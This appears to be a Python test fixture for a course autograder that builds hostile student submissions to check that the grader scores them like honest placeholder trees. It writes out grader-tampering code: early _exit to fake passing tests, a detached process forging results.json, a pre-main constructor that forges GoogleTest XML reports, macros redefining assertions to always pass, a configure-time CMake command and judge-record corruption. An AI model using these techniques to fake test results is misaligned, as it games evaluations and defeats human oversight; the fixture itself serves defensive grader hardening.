"""The hostile submissions the grader's proofs grade (check_grading.py), each behaviour in a task of
stage 1 of its own, and the honest trees they must score exactly like.

Submission A is this tree with five of stage 1's tasks turned hostile, beside the tree with those
tasks left as placeholders (what an honest student who did not do them hands in):

| task                      | what the hostile code does                                           |
|---------------------------|----------------------------------------------------------------------|
| stage1.plane.intersect    | _exit(0): under ctest every test that reaches it "passed"            |
| stage1.implicit.intersect | loops for ever                                                       |
| stage1.shading.local      | allocates without bound                                              |
| stage1.camera.ray         | leaves a detached process that forges results.json seconds later     |
| stage1.sphere.*           | sphere_intersection.cpp is a link to the grader's own solution file  |
| stage1.shading.brdf       | a constructor that runs before main forges GoogleTest's report for   |
|                           | the BlinnPhong test being run (in its own folder and in the judge's, |
|                           | whose path it guesses) and ends the process with 0, every call       |
|                           | through a function pointer so that no flag finds it                  |
| stage1.camera.concentric_disk | in a DiskSampling test, rewrites its own record of the values it |
|                           | gave when the process exits: the right tag, a value that claims      |
|                           | 2^60 elements (a judge that believed it would allocate until killed) |

The last two attack the verdict itself: the first the report, which in-process tests could not
protect (48 of 53 points when the test process wrote its own report), the second the judge that
now writes it from the subject's record (tests/support/subject.h). Each stays within the tests of
its own task, which fail with the placeholder, so the honest tree fails them too.

plus a CMakeLists.txt that runs a command at configure time, a tests/CMakeLists.txt that drops
the failing tests and adds forged passing ones, and headers that the stage's tests include
(stages/01-ray-casting/render.h, camera_rays.h) redefining GoogleTest's EXPECT_* and ASSERT_* to
pass: when render.h held a task, the grader took it from the submission and those tests passed with
genuine reports (16 of 53 points). Tasks live only in .cpp files now, and no header is taken. The tasks are chosen so that every test reaching
their code fails with the placeholder too, so the two trees must agree test by test: what the
hostile code steals is then exactly what the comparison would show. Submission B is the starter tree with the render
checks' references replaced by its own renders (and the same build files), beside the starter.
"""
import pathlib
import shutil
import sys

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tools"))
import task_regions  # noqa: E402

STAGE1 = "stages/01-ray-casting"
HOSTILE_TASKS = ["stage1.plane.intersect", "stage1.implicit.intersect", "stage1.shading.local", "stage1.camera.ray",
                 "stage1.sphere.textbook", "stage1.sphere.stable", "stage1.shading.brdf", "stage1.camera.concentric_disk"]


def replace_solution(path, task, code):
    """Puts `code` (lines) and then the placeholder's code in place of `task`'s solution."""
    lines = path.read_text().splitlines()
    region = next(r for r in task_regions.parse(path, []) if r.task_id == task)
    body = [region.indent + line for line in code] + region.placeholder_code(lines)
    lines[region.begin + 1:region.placeholder] = body
    path.write_text("\n".join(lines) + "\n")


def copy_tree(source, destination):
    shutil.rmtree(destination, ignore_errors=True)
    shutil.copytree(source, destination, symlinks=True,
                    ignore=shutil.ignore_patterns(".git", "build", "__pycache__"))


def honest_tree(destination):
    """This tree with the hostile tasks as placeholders."""
    copy_tree(ROOT, destination)
    for task in HOSTILE_TASKS:
        file = {"plane.intersect": "plane_intersection.cpp", "implicit.intersect": "implicit_surface.cpp",
                "shading.local": "local_shading.cpp", "shading.brdf": "local_shading.cpp", "camera.ray": "camera_rays.cpp",
                "camera.concentric_disk": "disk_sampling.cpp", "sphere.textbook": "sphere_intersection.cpp",
                "sphere.stable": "sphere_intersection.cpp"}[task.split(".", 1)[1]]
        replace_solution(destination / STAGE1 / file, task, [])


# What a header a test includes could do to the test's own assertions: make every one of them pass.
FORGED_ASSERTIONS = "".join(f"#undef {kind}_{what}\n#define {kind}_{what}(...) if (true) {{}} else std::cerr\n"
                            for kind in ("EXPECT", "ASSERT")
                            for what in ("TRUE", "FALSE", "EQ", "NE", "LT", "LE", "GT", "GE", "NEAR", "FLOAT_EQ"))


def hostile_build_files(tree, marker):
    """A CMakeLists.txt that runs a command while cmake configures (it must never run), a
    tests/CMakeLists.txt that drops stage 1's tests and forges passing ones in their place, and
    stage 1's headers turned into ones that make every assertion after them pass."""
    with open(tree / "CMakeLists.txt", "a") as out:
        out.write(f'\nexecute_process(COMMAND touch "{marker}")\n')
    for header in ("render.h", "camera_rays.h"):
        path = tree / STAGE1 / header
        path.write_text(path.read_text() + "\n#include <gtest/gtest.h>\n#include <iostream>\n" + FORGED_ASSERTIONS)
    tests = tree / "tests" / "CMakeLists.txt"
    forged = "".join(f"add_test(NAME {name} COMMAND true)\nset_tests_properties({name} PROPERTIES LABELS stage1)\n"
                     for name in ("Plane.BehindTheOriginIsNotHit", "Torus.RayThroughTheHoleMisses",
                                  "BlinnPhong.Reciprocity", "CameraRays.ImageCentreLooksForward"))
    tests.write_text(tests.read_text().replace("rt_add_tests(stage1_tests stage1", "rt_add_tests(stage1_tests dropped")
                     + forged)


def include(path, headers):
    path.write_text("".join(f"#include <{h}>\n" for h in headers) + path.read_text())


def hostile_tree(destination, forged_results, marker):
    """Submission A. `forged_results` is the results.json the detached process tries to overwrite;
    `marker` a file that any of the hostile code writes or touches if it ever escapes."""
    copy_tree(ROOT, destination)
    stage1 = destination / STAGE1
    replace_solution(stage1 / "plane_intersection.cpp", "stage1.plane.intersect", ["::_exit(0);"])
    include(stage1 / "plane_intersection.cpp", ["unistd.h"])
    replace_solution(stage1 / "implicit_surface.cpp", "stage1.implicit.intersect",
                     ["for (volatile bool forever = true; forever;) {", "}"])
    replace_solution(stage1 / "local_shading.cpp", "stage1.shading.local",
                     ["std::vector<std::vector<char>> hoard;",
                      "while (true) hoard.emplace_back(std::size_t(1) << 26, char(1));  // touched, not only reserved"])
    include(stage1 / "local_shading.cpp", ["vector"])
    replace_solution(stage1 / "camera_rays.cpp", "stage1.camera.ray", [
        "static std::atomic<bool> started{false};",
        "if (!started.exchange(true) && ::fork() == 0) {",
        "  ::setsid();",
        "  ::sleep(3);  // the grader has written its results by now",
        f'  if (std::FILE* out = std::fopen("{forged_results}", "w")) {{',
        '    std::fputs("{\\"score\\": 175, \\"tests\\": []}", out);',
        "    std::fclose(out);",
        "  }",
        f'  if (std::FILE* out = std::fopen("{marker}", "w")) std::fclose(out);',
        "  ::_exit(0);",
        "}"])
    include(stage1 / "camera_rays.cpp", ["atomic", "cstdio", "unistd.h"])
    replace_solution(stage1 / "local_shading.cpp", "stage1.shading.brdf", [])
    with open(stage1 / "local_shading.cpp", "a") as out:
        out.write(FORGED_REPORT)
    include(stage1 / "local_shading.cpp", ["cstdio", "cstdlib", "cstring", "string", "unistd.h"])
    replace_solution(stage1 / "disk_sampling.cpp", "stage1.camera.concentric_disk", FORGED_RECORD)
    include(stage1 / "disk_sampling.cpp", ["algorithm", "cstdint", "cstdio", "cstdlib", "unistd.h"])
    sphere = stage1 / "sphere_intersection.cpp"
    sphere.unlink()
    sphere.symlink_to(ROOT / STAGE1 / "sphere_intersection.cpp")
    hostile_build_files(destination, marker)


# Attack 1 of the issue that made the judge: a namespace-scope object of a task file whose
# constructor writes a passing report for the BlinnPhong test being run and ends the process.
FORGED_REPORT = r"""
namespace {
struct ReportForger {
  ReportForger() {
    auto open = &std::fopen;
    auto read = &std::fread;
    auto put = &std::fputs;
    auto close = &std::fclose;
    auto quit = &std::_Exit;
    char line[8192] = {};
    std::FILE* self = open("/proc/self/cmdline", "rb");
    if (!self) return;
    const std::size_t n = read(line, 1, sizeof line - 1, self);
    close(self);
    std::string filter, output = "report.xml";
    for (std::size_t i = 0; i < n; i += std::strlen(line + i) + 1) {
      const std::string argument(line + i);
      if (argument.rfind("--gtest_filter=", 0) == 0) filter = argument.substr(15);
      if (argument.rfind("--gtest_output=xml:", 0) == 0) output = argument.substr(19);
    }
    if (filter.rfind("BlinnPhong.", 0) != 0) return;
    const std::string xml =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites tests=\"1\" failures=\"0\" disabled=\"0\" "
        "errors=\"0\" name=\"AllTests\">\n<testsuite name=\"BlinnPhong\" tests=\"1\" failures=\"0\" "
        "disabled=\"0\" skipped=\"0\" errors=\"0\">\n<testcase name=\"" + filter.substr(11) +
        "\" status=\"run\" result=\"completed\" classname=\"BlinnPhong\" />\n</testsuite>\n</testsuites>\n";
    char here[4096] = {};
    const std::string judge = std::string(::getcwd(here, sizeof here) ? here : ".") + "-judge/report.xml";
    for (const std::string& path : {output, judge}) {
      if (std::FILE* out = open(path.c_str(), "w")) {
        put(xml.c_str(), out);
        close(out);
      }
    }
    quit(0);
  }
} forger;
}  // namespace
"""

# The attack on the judge: at exit, the subject's first record keeps its tag and gets a value that
# claims 2^60 elements.
FORGED_RECORD = [
    "static bool armed = false;",
    "if (!armed) {",
    "  armed = true;",
    "  char line[8192] = {};",
    '  std::FILE* self = std::fopen("/proc/self/cmdline", "rb");',
    "  const std::size_t n = self ? std::fread(line, 1, sizeof line - 1, self) : 0;",
    "  if (self) std::fclose(self);",
    '  if (std::search(line, line + n, "DiskSampling", "DiskSampling" + 12) != line + n) {',
    "    std::atexit([] {",
    '      const char* path = std::getenv("RT_GRADING_RECORD");',
    "      std::fflush(nullptr);",
    '      std::FILE* record = path ? std::fopen(path, "r+b") : nullptr;',
    "      if (!record) return;",
    "      std::uint32_t tag = 0;",
    "      if (std::fread(&tag, 4, 1, record) == 1 && std::fseek(record, long(tag) + 4, SEEK_SET) == 0) {",
    "        const std::uint64_t size = 16, count = std::uint64_t(1) << 60, x = 0;",
    "        std::fwrite(&size, 8, 1, record);",
    "        std::fwrite(&count, 8, 1, record);",
    "        std::fwrite(&x, 8, 1, record);",
    "        std::fflush(record);",
    "        if (::ftruncate(::fileno(record), std::ftell(record)) != 0) return;",
    "      }",
    "      std::fclose(record);",
    "    });",
    "  }",
    "}",
]


def replaced_references(destination, starter, references, marker):
    """Submission B: the starter tree with `references` ({path in the tree: bytes}, the starter's
    own renders) in place of the render checks' references, and hostile build files."""
    copy_tree(starter, destination)
    for relative, data in references.items():
        (destination / relative).parent.mkdir(parents=True, exist_ok=True)
        (destination / relative).write_bytes(data)
    hostile_build_files(destination, marker)
